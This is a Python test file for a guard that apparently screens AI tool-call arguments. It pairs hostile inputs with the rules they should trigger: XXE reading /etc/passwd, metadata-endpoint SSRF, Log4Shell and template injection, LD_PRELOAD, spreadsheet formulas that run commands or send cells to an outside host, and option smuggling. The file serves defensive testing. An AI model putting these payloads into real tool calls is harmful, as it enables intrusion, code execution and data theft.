"""Some of what is wrong with a text is wrong whatever it means."""

from __future__ import annotations

from typing import TYPE_CHECKING

from sekisho.engine.guarding import guard
from sekisho.meaning.tool import Tool
from sekisho.policy.facts import Site, facts_of_launch
from tablekit import rows

if TYPE_CHECKING:
    from sekisho.wire.strict import JsonObject

HERE = facts_of_launch(Site(folders=("/work",), cwd="/work", home="/home/me"), words=(), hosts=frozenset())


def rules(body: JsonObject, arguments: JsonObject) -> set[str]:
    made = Tool(body)
    return {each.objection.rule for each in guard(made.read(arguments), made, HERE).found}


@rows(
    ("name", "arguments", "rule"),
    [
        ("set_key", {"key": "a\r\nDEL b"}, "header-split"),
        ("parse_xml", {"xml": "<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a>&x;</a>"}, "content-reaches"),
        ("html_to_pdf", {"html": "<img src='http://169.254.169.254/'>"}, "content-reaches"),
        ("ldap_find_user", {"username": "*)(uid=*))(|(uid=*"}, "query-closes"),
        ("merge_settings", {"settings": {"a": {"__proto__": {"b": 1}}}}, "member-inherited"),
        ("run_script", {"env": {"LD_PRELOAD": "x.so"}}, "variable-starts"),
        ("run_script", {"environment": ["BASH_ENV=x"]}, "variable-starts"),
        ("run_script", {"env": {"HTTP_PROXY": "http://10.0.0.1/"}}, "variable-starts"),
        ("run_script", {"env": {"CONFIG_PATH": "/etc/shadow"}}, "path-credential"),
        ("fetch_page", {"env": {"URL": "http://127.0.0.1/"}}, "url-private"),
        ("git_config_set", {"key": "core.hooksPath", "value": "x"}, "word-option"),
        ("rg_search", {"query": "--pre=x"}, "word-option"),
        ("browse", {"options": {"args": ["--renderer-cmd-prefix=x"]}}, "word-option"),
        ("build", {"extra_args": ["-o", "/home/me/.ssh"]}, "path-credential"),
        ("log_line", {"message": "${jndi:ldap://evil.example/a}"}, "template-reaches"),
        ("run_playbook", {"extra_vars": {"x": "{{ lookup('pipe','id') }}"}}, "template-reaches"),
        ("rename", {"address": "__import__('os').system('x')"}, "expression-code"),
        ("browser_run_code", {"code": "async (page) => require('child_process').execSync('id')"}, "expression-code"),
        ("kubectl_get", {"output": "go-template-file=/etc/passwd"}, "path-system"),
        ("set_cell", {"cell": "A1", "value": "=cmd|'/c calc'!A1"}, "content-reaches"),
        ("get_session", {"region": "evil.example/#"}, "word-query"),
        ("set_cell", {"cell": "A1", "value": '=WEBSERVICE("https://x.example/?"&CONCAT(A1:Z9))'}, "content-reaches"),
        ("query", {"connectionString": "postgresql://a@169.254.169.254/b", "sql": "SELECT 1"}, "url-private"),
        ("dbt_show", {"models": "--profiles-dir /tmp/x orders"}, "word-option"),
        ("gradle_build", {"task": "build --init-script x"}, "word-option"),
        ("set_environment_variable", {"name": "LD_PRELOAD", "value": "x.so"}, "variable-starts"),
        ("sed_edit", {"expression": "1e id", "file": "a"}, "shell-unclear"),
        ("npm_install", {"package": "git+https://x.example/a.git"}, "shell-unclear"),
        ("pip_install", {"packages": ["requests", "https://x.example/a.whl"]}, "shell-unclear"),
        ("install_helm_chart", {"chart": "https://x.example/a.tgz"}, "shell-unclear"),
        ("pip_install", {"options": "--index-url https://x.example/simple"}, "word-option"),
        ("awk_run", {"program": 'BEGIN{system("id")}'}, "shell-unclear"),
        ("mongodb_find_user", {"password": {"$ne": None}}, "document-code"),
        ("create_note", {"note": ".obsidian/plugins/x/main.js", "text": "a"}, "path-protected"),
    ],
)
def test_a_text_is_judged_whatever_it_means(name: str, arguments: JsonObject, rule: str) -> None:
    schema: JsonObject = {"type": "object", "properties": {key: {"type": "string"} for key in arguments}}
    assert rules({"name": name, "inputSchema": schema}, arguments) >= {rule}


@rows(
    ("name", "arguments"),
    [
        ("set_key", {"key": "a", "text": "a\r\nDEL b"}),
        ("create_note", {"text": "<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a>&x;</a>"}),
        ("html_to_pdf", {"html": "<img src='https://example.com/a.png'>"}),
        ("ldap_find_user", {"username": "Sales (EMEA)"}),
        ("ldap_add_note", {"text": "*)(uid=*))(|(uid=*"}),
        ("merge_settings", {"settings": {"a": {"proto": {"b": 1}}}}),
        ("run_script", {"env": {"PORT": "80", "DATABASE_URL": "postgres://a:b@db/c", "DB_HOST": "localhost"}}),
        ("git_config_set", {"key": "user.name", "value": "x"}),
        ("rg_search", {"query": "--pre flag"}),
        ("browse", {"options": {"args": ["--window-size=800,600"]}}),
        ("browse", {"options": {"note": "--renderer-cmd-prefix=x"}}),
        ("build", {"extra_args": ["-o", "/work/out"]}),
        ("search_code", {"pattern": "${jndi:ldap"}),
        ("kubectl_get", {"output": "custom-columns-file=/work/a"}),
        ("kubectl_get", {"output": "jsonpath={.a=/b}"}),
        ("set_cell", {"cell": "A1", "value": "=SUM(B1:B2)"}),
        ("get_session", {"region": "us-east-1"}),
        ("set_cell", {"cell": "A1", "value": '=IMPORTXML("https://x.example/"&A2, "//a")'}),
        ("query", {"connectionString": "postgresql://a@localhost:5432/b", "sql": "SELECT 1"}),
        ("query", {"connectionString": "Server=db;Database=a", "sql": "SELECT 1"}),
        ("dbt_show", {"models": "orders+ --not-first"}),
        ("pip_install", {"options": "--upgrade --no-deps"}),
        ("list_notes", {"sequence": "--draft first"}),
        ("gradle_build", {"task": "build -x test --stacktrace"}),
        ("gradle_build", {"note": "about build --init-script x"}),
        ("list_tasks", {"task": "build --init-script x"}),
        ("get_environment_variable", {"name": "LD_PRELOAD"}),
        ("set_environment_variable", {"name": "PORT", "value": "80"}),
        ("sed_edit", {"expression": "s/a/b/g", "file": "a"}),
        ("npm_install", {"package": "@types/node@^20"}),
        ("npm_install", {"package": "npm:left-pad"}),
        ("pip_install", {"packages": ["requests>=2,<3"]}),
        ("npm_search", {"package": "git+https://x.example/a.git"}),
        ("install_helm_chart", {"chart": "oci://charts.example/nginx"}),
        ("awk_run", {"program": "{ print $1 }"}),
        ("create_note", {"text": "${jndi:ldap://evil.example/a}"}),
        ("run_command", {"command": "cat <<E > config.yaml\nport: 80\nhost: localhost\nE"}),
    ],
)
def test_honest_texts_of_the_same_kinds_pass(name: str, arguments: JsonObject) -> None:
    schema: JsonObject = {"type": "object", "properties": {key: {"type": "string"} for key in arguments}}
    assert rules({"name": name, "inputSchema": schema}, arguments) == set()


def test_a_tool_of_graphql_that_says_that_it_only_reads_changes_nothing() -> None:
    said = {"name": "graphql", "description": "Runs a read-only query of GraphQL"}
    found = [rules({**said}, {"query": each}) for each in ("mutation { a }", "{ a }")]
    assert found == [{"query-closes"}, set()]
